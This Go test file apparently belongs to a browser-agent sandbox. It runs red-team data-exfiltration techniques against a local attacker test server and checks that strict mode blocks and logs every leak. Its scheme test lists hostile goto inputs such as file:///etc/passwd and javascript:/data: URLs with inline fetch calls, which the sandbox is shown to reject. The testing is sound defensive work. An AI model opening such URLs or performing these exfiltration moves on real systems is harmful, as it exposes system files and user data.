	var table []string
	for _, form := range []rtForm{{name: "ports", page: site.URL}, {name: "localhost", page: "http://localhost" + port}} {
		t.Run(form.name, func(t *testing.T) {
			reported := map[string]int{}
			for _, mode := range []policy.Mode{policy.ModeReport, policy.ModeStrict} {
				t.Run(string(mode), func(t *testing.T) {
					f := form
					f.evil = evil
					f.env = start(t, mode, "")
					f.run = openRun(t, f.env)
					seen := map[string]bool{}
					total := 0
					only := os.Getenv("GATEHOUSE_REDTEAM_ONLY")
					for _, tq := range rtTechniques() {
						if only != "" && !strings.Contains(","+only+",", ","+tq.name+",") {
							continue
						}
						evil.reset()
						steps := tq.steps
						if steps == nil {
							steps = f.clickStep(tq.name)
						}
						steps(t, &f)
						if !tq.noBarrier {
							do(t, f.env, f.run, browser.ActionPages, nil)
						}
						// Read the journal at once: what the technique set off
						// must be on record by now.
						recorded, allowedOff := 0, 0
						for _, d := range allDecisions(t, f.env, f.run) {
							if seen[d.Effect] {
								continue
							}
							seen[d.Effect] = true
							if d.Action == browser.EffectSend || d.Action == policy.BrowserConnect {
								detail := ""
								if len(d.Reasons) > 0 {
									detail = d.Reasons[0].Detail
								}
								t.Logf("%s: %s %s %s: %s", tq.name, d.Method, d.Target, d.Refusal, detail)
							}
							switch {
							case d.Action != browser.EffectSend && d.Action != policy.BrowserConnect:
							case d.Refusal != "":
								recorded++
								if mode == policy.ModeStrict && (d.Outcome != journal.OutcomeRefused || !d.Enforced) {
									t.Errorf("%s: strict mode let it out: %+v", tq.name, d.Decision)
								}
							case !strings.EqualFold(d.Host, d.PageHost):
								allowedOff++
							}
						}
						total += recorded
						hits, pre, all, grams := evil.counts(tq.name)
						if mode == policy.ModeReport && tq.fate == rtRefused {
							// What was let out may still be on its way.
							for deadline := time.Now().Add(3 * time.Second); hits < recorded && time.Now().Before(deadline); {
								time.Sleep(20 * time.Millisecond)
								hits, pre, all, grams = evil.counts(tq.name)
							}
						}
						line := fmt.Sprintf("%-9s %-6s %-14s arrived=%d preflight=%d any=%d udp=%d recorded=%d allowed-off-site=%d",
							form.name, mode, tq.name, hits, pre, all, grams, recorded, allowedOff)
						table = append(table, line)
						t.Log(line)
						leak := func(format string, args ...any) {
							t.Errorf("%s (%s): "+format, append([]any{tq.name, mode}, args...)...)
						}
						switch tq.fate {
						case rtRefused:
							if mode == policy.ModeReport {
								reported[tq.name] = recorded
								if hits != recorded || (hits == 0 && !tq.mayNotSend) {
									leak("%d arrived with the secret, %d recorded", hits, recorded)
								}
							} else if hits != 0 || pre != 0 || (recorded != reported[tq.name] && !tq.mayNotSend) {
								leak("%d arrived (%d preflights), %d refusals recorded; report mode saw %d", hits, pre, recorded, reported[tq.name])
							}
						case rtPreflight:
							if mode == policy.ModeReport {
								reported[tq.name] = recorded
								if pre+hits != recorded || pre == 0 {
									leak("%d preflights and %d requests arrived with the secret, %d recorded", pre, hits, recorded)
								}
							} else if hits != 0 || pre != 0 || recorded == 0 {
								leak("%d arrived (%d preflights), %d refusals recorded", hits, pre, recorded)
							}
						case rtStripped:
							if recorded != 0 || (mode == policy.ModeStrict && hits != 0) || (mode == policy.ModeReport && hits == 0) {
								leak("%d arrived with the secret, %d recorded", hits, recorded)
							}
						case rtNothing:
							if hits != 0 || pre != 0 || grams != 0 || recorded != 0 {
								leak("%d arrived, %d datagrams, %d recorded; want none", hits, grams, recorded)
							}
						case rtStrictNothing:
							if mode == policy.ModeStrict && (hits != 0 || pre != 0) {
								leak("%d arrived at the attacker's site from its own page", hits)
							}
						case rtAgent:
							if hits == 0 || recorded != 0 {
								leak("the agent's goto: %d arrived, %d refusals", hits, recorded)
							}
							var navs int
							for _, d := range decisions(t, f.env, f.run, browser.EffectNavigate) {
								if d.Target == strings.TrimPrefix(evil.srv.URL, "http://")+"/t/gotoevil" && d.Outcome == journal.OutcomeAllowed {
									navs++
								}
							}
							if navs != 1 {
								leak("the agent's goto is not on record once as a navigate (%d)", navs)
							}
						case rtAdmitted:
							if all == 0 || recorded != 0 {
								leak("the admitted plain-read channel: %d requests, %d recorded", all, recorded)
							}
						}
					}
					pool.CloseRun(f.run)
					time.Sleep(300 * time.Millisecond)
					late := 0
					for _, d := range allDecisions(t, f.env, f.run) {
						if !seen[d.Effect] && d.Refusal != "" {
							late++
							t.Errorf("recorded after its technique's next action returned: %+v", d.Decision)
						}
					}
					t.Logf("%s/%s: %d refusals on record in time, %d late", form.name, mode, total, late)
					f.env.Verify(t)
					journalClean(t, f.env)
				})
			}
		})
	}
	sort.Strings(table)
	if os.Getenv("GATEHOUSE_REDTEAM_TABLE") != "" {
		_ = os.WriteFile(os.Getenv("GATEHOUSE_REDTEAM_TABLE"), []byte(strings.Join(table, "\n")+"\n"), 0o644)
	}
}

// journalClean fails the test for every journal file that holds the
// marker in any case: what a page sends is recorded as sizes and digests,
// and hosts and paths that carried data are redacted.
func journalClean(t *testing.T, env *envT) {
	t.Helper()
	env.Drain(t)
	_ = filepath.Walk(env.JournalDir, func(path string, info os.FileInfo, err error) error {
		if err != nil || info.IsDir() {
			return err
		}
		b, _ := os.ReadFile(path)
		lower := strings.ToLower(string(b))
		if i := strings.Index(lower, marker); i >= 0 {
			from, to := max(i-120, 0), min(i+60, len(b))
			t.Errorf("%s holds the page's data: ...%s...", filepath.Base(path), b[from:to])
		}
		return nil
	})
}

// TestRedTeamPlainReads: reads from another site that carry nothing (an
// image, a srcset, an image over HTTPS, the target of the site's own
// redirect, a stylesheet and the font it names, a script, a frame and its
// image, a poster, a CSS background, fetches with and without CORS, an
// event stream and its reconnection with Last-Event-ID) all work in strict
// mode, and none is decided; also when the agent's goto names its host in
// capitals and carries a fragment (Chromium asks for neither).
func TestRedTeamPlainReads(t *testing.T) {
	site := httptest.NewServer(http.HandlerFunc(rtSite))
	defer site.Close()
	evil := newRTEvil(t)
	env := start(t, policy.ModeStrict, "")
	run := openRun(t, env)
	f := &rtForm{page: "http://LocalHost" + strings.TrimPrefix(site.URL, "http://127.0.0.1"), evil: evil, env: env, run: run}
	f.goTo(t, f.url("/rt/plain.html")+"#top")
	want := []string{"plain-img.png", "plain-srcset.png", "plain-tls.png", "plain-hop", "plain-hopped.png", "plain-s.css",
		"plain-font.woff2", "plain-lib.js", "plain-frame", "plain-inner.png", "plain-poster.png", "plain-bg.png",
		"plain-f.json", "plain-cors.json", "plain-sse", "plain-sse-reconnect"}
	deadline := time.Now().Add(10 * time.Second)
	for _, n := range want {
		for {
			_, _, all, _ := evil.counts(n)
			if all > 0 {
				break
			}
			if time.Now().After(deadline) {
				t.Errorf("%s never reached the other site in strict mode", n)
				break
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
	text := func(sel string) string {
		r := do(t, env, run, browser.ActionText, map[string]any{"selector": sel})
		var v struct{ Text string }
		_ = json.Unmarshal(r.Result, &v)
		return v.Text
	}
	if got := text("#lib"); got != "loaded" {
		t.Errorf("the other site's script did not run: %q", got)
	}
	if got := text("#out"); got != "cors received" {
		t.Errorf("a CORS read of the other site: %q", got)
	}
	for _, d := range allDecisions(t, env, run) {
		if d.Action != browser.EffectNavigate {
			t.Errorf("a plain read was decided: %+v", d.Decision)
		}
	}
	env.Verify(t)
}

// TestRedTeamGotoSchemes: the agent can open only http and https: every
// other scheme is a bad request, and nothing is decided.
func TestRedTeamGotoSchemes(t *testing.T) {
	env := start(t, policy.ModeStrict, "")
	run := openRun(t, env)
	for _, u := range []string{"chrome://version", "chrome-untrusted://print", "file:///etc/passwd", "about:blank",
		"data:text/html,<script>fetch('http://127.0.0.1:1/')</script>", "view-source:http://127.0.0.1:1/",
		"javascript:fetch('http://127.0.0.1:1/')", "blob:http://127.0.0.1:1/x", "ws://127.0.0.1:1/", "ftp://127.0.0.1/",
		"http://", "http:///x", "//127.0.0.1:1/x"} {
		r := try(t, env, run, browser.ActionGoto, map[string]any{"url": u})
		if r.Error == nil || r.Decision != nil {
			t.Errorf("goto %q: %+v", u, r)
		}
	}
	if ds := allDecisions(t, env, run); len(ds) != 0 {
		t.Errorf("decided: %+v", ds)
	}
	env.Verify(t)
}
